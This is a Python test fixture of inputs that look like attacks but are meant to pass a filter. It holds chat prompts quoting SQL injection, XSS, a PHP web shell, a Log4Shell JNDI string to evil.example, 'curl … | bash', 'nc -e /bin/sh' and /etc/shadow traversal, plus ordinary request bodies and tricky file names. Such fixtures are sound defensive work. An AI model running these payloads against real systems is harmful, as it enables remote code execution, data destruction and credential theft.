"""What people write to models, and what programs send to services, that looks like an attack to a filter."""

CODE = (
    "What does SELECT * FROM users WHERE name = '' OR 1=1 -- do?",
    "Why is `'; DROP TABLE students; --` funny?",
    "Rewrite: SELECT a.id FROM a UNION ALL SELECT b.id FROM b WHERE sleep(5)",
    "Is <script>alert(document.cookie)</script> dangerous in my page?",
    '<img src=x onerror="alert(1)"> shows an alert. How do I escape it?',
    "Explain rm -rf / and $(curl http://example.com/x.sh | bash)",
    "My Dockerfile says RUN cat /etc/passwd; why does it fail?",
    "open('../../../../etc/shadow') raises PermissionError in Python",
    "<?php echo system($_GET['cmd']); ?> is in my log. Was I hacked?",
    "How does ${jndi:ldap://evil.example/a} work in Log4Shell?",
    "powershell -enc SQBFAFgA and cmd.exe /c dir: what is the difference?",
    "Write a regex that matches {{7*7}} and <%= 7*7 %> in templates",
    "Erkläre mir `nc -lvp 4444 -e /bin/sh` und `wget -qO- x|sh`",
    "Expliquez : javascript:void(0) et data:text/html;base64,PHNjcmlwdD4=",
    '#!/bin/bash\nfor f in *; do mv "$f" "${f,,}"; done\n',
)
"""Prompts that talk about code and attacks, as a chat about programs does."""

ORDINARY_BODIES = (
    {"name": "Ada Lovelace", "age": 36, "tags": ["mathematics", "poetry"]},
    {"state": {"temperature": 21.5, "mode": "eco"}, "revision": 7},
    {"title": "It's done", "text": "We'll meet at O'Hara's, at 5 o'clock."},
    {"message": "Disk usage is at 91 % on node-3; see https://example.com/runbooks/disk."},
    {"query": "cpu usage of the last 5 minutes", "limit": 10},
    {"when": "2026-11-26T12:00:00+00:00", "cron": "*/5 * * * *", "zone": "Europe/Paris"},
    {"address": "postgresql.team-a.svc:5432", "image": "registry.example.com/a/b:1.2.3"},
    {"note": "50% of <5 ms & >1 ms; a = b, c != d"},
    {"markdown": "# Title\n\n- one\n- two\n\n[link](https://example.com)"},
)
"""What programs send to routes whose bodies are looked at."""

FILE_NAMES = (
    "it's.txt",
    "don't panic.txt",
    "a;b.txt",
    "a=b.txt",
    'report "final".txt',
    ".env",
    ".htaccess",
    "x' OR 1=1 --.txt",
)
"""What people call files, and a filter does not let pass elsewhere."""
